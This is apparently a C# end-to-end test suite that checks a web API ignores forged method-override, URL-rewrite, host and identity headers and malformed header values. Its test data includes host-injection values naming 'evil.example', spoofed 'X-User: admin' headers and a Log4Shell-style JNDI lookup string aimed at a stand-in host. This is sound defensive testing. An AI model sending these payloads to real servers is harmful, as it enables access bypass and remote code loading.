namespace EndToEnd.Tests.Hostile;

/// <summary>Headers and methods by which a client claims another identity, path or method.</summary>
[Collection(SystemFixture.Registering)]
public sealed class ForgedHeaderTests(SystemFixture system)
{
    [Theory]
    [InlineData("X-HTTP-Method-Override: DELETE")]
    [InlineData("X-HTTP-Method: DELETE")]
    [InlineData("X-Method-Override: DELETE")]
    [InlineData("X_HTTP_METHOD_OVERRIDE: DELETE")]
    public async Task Method_is_not_overridden(string header)
    {
        Assert.Equal(200, (await system.SendAsync("GET", "/api/users/1", null, header)).Status);
        (await system.SendAsync("POST", "/api/users/1", [], header)).AssertProblem(405, "Method not allowed");
        Assert.Equal(200, (await system.SendAsync("GET", "/api/users/1?", null, header)).Status);
    }

    [Theory]
    [InlineData("X-Original-URL: /api/users/1")]
    [InlineData("X-Rewrite-URL: /api/users/1")]
    [InlineData("X-Forwarded-Prefix: /api/users")]
    [InlineData("X-Forwarded-Path: /api/users/1")]
    public async Task Path_is_not_overridden(string header) =>
        (await system.SendAsync("GET", "/nothing", null, header)).AssertProblem(404, "Not found");

    [Theory]
    [InlineData("X-Forwarded-Host: evil.example")]
    [InlineData("X-Forwarded-Host: evil.example", "X-Forwarded-Proto: https")]
    [InlineData("Forwarded: host=evil.example")]
    [InlineData("X-Original-Host: evil.example")]
    [InlineData("X-Host: evil.example")]
    [InlineData("X-Forwarded-Server: evil.example")]
    public async Task Pages_do_not_repeat_a_forged_host(params string[] headers)
    {
        foreach (var page in new[] { "/", "/docs" })
        {
            var reply = await system.SendAsync("GET", page, null, headers);

            reply.AssertSound();
            Assert.DoesNotContain("evil.example", reply.Head + reply.Body, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("X-Forwarded-For: 127.0.0.1")]
    [InlineData("X-Real-IP: 127.0.0.1")]
    [InlineData("X-Traffic-Class: probe")]
    [InlineData("X-User: admin")]
    [InlineData("X-Auth-Request-User: admin")]
    public async Task Claimed_identity_changes_no_response(string header)
    {
        Assert.Equal(200, (await system.SendAsync("GET", "/api/users/1", null, header)).Status);
        (await system.SendAsync("GET", "/internal/info", null, header)).AssertProblem(404, "Not found");
    }

    [Theory]
    [InlineData("TRACE")]
    [InlineData("PROPFIND")]
    [InlineData("BREW")]
    [InlineData("PATCH")]
    public async Task Unsupported_method_is_refused_with_the_allowed_ones(string method)
    {
        var reply = await system.SendAsync(method, "/api/users");

        reply.AssertProblem(405, "Method not allowed");
        Assert.Contains("\r\nAllow: ", reply.Head, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("get")]
    [InlineData("head")]
    [InlineData("Delete")]
    [InlineData("pATCH")]
    public async Task Lower_case_method_is_refused(string method)
    {
        (await system.SendAsync(method, "/api/users/1")).AssertProblem(400, "Bad request");

        Assert.Equal(200, (await system.SendAsync("GET", "/api/users/1")).Status);
    }

    [Theory]
    [InlineData("Upgrade: websocket", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==")]
    [InlineData("Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__")]
    [InlineData("Upgrade: TLS/1.2")]
    [InlineData("Expect: 200-ok")]
    [InlineData("Range: bytes=0-0,1-1,2-2")]
    [InlineData("If-Modified-Since: yesterday")]
    [InlineData("Accept: image/png", "Accept-Charset: klingon", "Accept-Encoding: zstd;q=x")]
    [InlineData("Cookie: a=b; ;=;\u00ff")]
    [InlineData("traceparent: 00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff")]
    [InlineData("X-Request-Id: ${jndi:ldap://evil.example/x}")]
    public async Task Nonsense_header_changes_no_response(params string[] headers)
    {
        var reply = await system.SendAsync("GET", "/api/users/1", null, headers);

        reply.AssertSound();
        Assert.DoesNotContain("evil.example", reply.Head, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Request_id_of_the_client_is_kept_only_if_sent_once()
    {
        var one = await system.SendAsync("GET", "/", null, "X-Request-Id: mine-1");
        var two = await system.SendAsync("GET", "/", null, "X-Request-Id: mine-1", "X-Request-Id: mine-2");

        Assert.Contains("X-Request-Id: mine-1", one.Head, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("mine", two.Head);
    }
}
